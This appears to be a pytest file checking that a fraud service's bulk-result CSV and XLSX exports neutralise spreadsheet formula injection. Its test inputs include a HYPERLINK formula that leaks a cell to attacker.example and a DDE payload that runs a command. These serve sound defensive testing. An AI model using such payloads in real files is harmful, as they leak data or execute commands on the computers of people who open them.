"""The results files never run what a customer typed: texts a spreadsheet would read as a formula
get a leading ' in the CSV and are string cells (quote-prefixed) in the XLSX; plain numbers such
as -2 or +254712345678 stay readable as they are."""

from __future__ import annotations

import csv
import io
import zipfile

import httpx
from openpyxl import Workbook, load_workbook

from hakiki.fraud.bulk.export import csv_safe
from tests.conftest import AccountFactory
from tests.fraud.bulk.conftest import URL, csv_bytes, finished, upload

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "=1+1",
]
PLAIN = ["-2", "+254712345678", "loan-7", "#N/A"]


def text_xlsx(rows: list[list[str]]) -> bytes:
    """An XLSX whose cells are all text, as a customer's sheet of typed-in values is."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    for line in sheet.iter_rows():
        for cell in line:
            cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_csv_safe_follows_owasp_and_keeps_numbers() -> None:
    for text in ("=1", "+a", "-a", "@a", "\t=1", "\r=1", "\n=1", "-2+3", "+254 712 345678"):
        assert csv_safe(text) == "'" + text
    for value in ("-2", "+254712345678", "-3.5", "12", "a=1", "", 5, -2.5, None, True):
        assert csv_safe(value) == value


async def test_exports_hold_no_formula(
    client: httpx.AsyncClient, make_account: AccountFactory
) -> None:
    account = await make_account("sandbox")
    references = HOSTILE + PLAIN
    sheet = [["reference", "phone"]] + [[ref, "0712345678"] for ref in references]
    sheet.append(["\t=2+5", '=HYPERLINK("http://a.example")'])  # a tab is stripped
    expected = [*references, "=2+5"]
    for content, name in ((csv_bytes(sheet), "h.csv"), (text_xlsx(sheet), "h.xlsx")):
        started = await upload(client, account.headers, content, "phone", country_code="KE")
        assert started["file_format"] == name[-4:].strip(".")
        bulk_id = started["bulk_id"]
        done = await finished(client, account.headers, bulk_id, page_size=100)
        assert [r["reference"] for r in done["results"]] == expected  # the API keeps them as is

        exported = await client.get(
            f"{URL}/{bulk_id}", params={"format": "csv"}, headers=account.headers
        )
        lines = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
        got = [line["reference"] for line in lines]
        assert got[: len(HOSTILE)] == ["'" + text for text in HOSTILE]
        assert got[len(HOSTILE) : len(references)] == PLAIN
        assert got[-1] == "'=2+5"
        assert lines[-1]["phone"] == '\'=HYPERLINK("http://a.example")'
        for line in lines:
            for value in line.values():
                assert not value.startswith(("=", "@", "\t", "\r")), value
                assert not value.startswith(("+", "-")) or value.lstrip("+-").isdigit(), value

        book_response = await client.get(
            f"{URL}/{bulk_id}", params={"format": "xlsx"}, headers=account.headers
        )
        with zipfile.ZipFile(io.BytesIO(book_response.content)) as archive:
            sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula element at all
        book = load_workbook(io.BytesIO(book_response.content))
        rows = list(book.worksheets[0].iter_rows(min_row=2))
        column = [c.value for c in next(book.worksheets[0].iter_rows(max_row=1))].index("reference")
        for row in rows:
            for found in row:
                assert found.data_type != "f", (found.coordinate, found.value)
                if isinstance(found.value, str):
                    assert found.data_type == "s", (found.coordinate, found.value)
        cells = [row[column] for row in rows]
        assert [c.value for c in cells] == expected  # the text itself, unchanged
        assert [c.quotePrefix for c in cells] == [True] * len(HOSTILE) + [False] * len(PLAIN) + [
            True
        ]
